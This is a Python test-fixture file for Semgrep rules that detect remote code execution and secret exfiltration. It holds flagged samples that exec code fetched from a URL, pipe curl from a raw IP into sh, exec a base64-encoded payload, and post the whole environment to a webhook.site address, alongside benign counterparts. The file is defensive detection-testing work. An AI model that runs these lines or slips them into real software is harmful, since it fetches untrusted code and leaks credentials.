# Samples for rules/remote_exec.yml; read by `semgrep --test`, never imported.
import base64
import json
import os
import urllib.request
import zlib

import requests


def a():
    # ruleid: py-exec-remote
    exec(requests.get("https://cfg.orr-cdn.io/boot.py").text)


def b():
    # ruleid: py-exec-remote
    os.system("curl -s http://62.197.136.3/a | sh")


def c(blob):
    # ruleid: py-b64-exec
    exec(zlib.decompress(base64.b64decode(blob)))


def d():
    # ruleid: py-env-post
    requests.post("https://webhook.site/5b0c7d", json=dict(os.environ))


def e():
    # ok: py-env-post
    requests.post("https://metrics.orrery.internal/v1", json={"region": os.environ["REGION"]})


def f():
    # ok: py-exec-remote
    cfg = json.loads(requests.get("https://cfg.orrery.internal/boot.json").text)
    return cfg
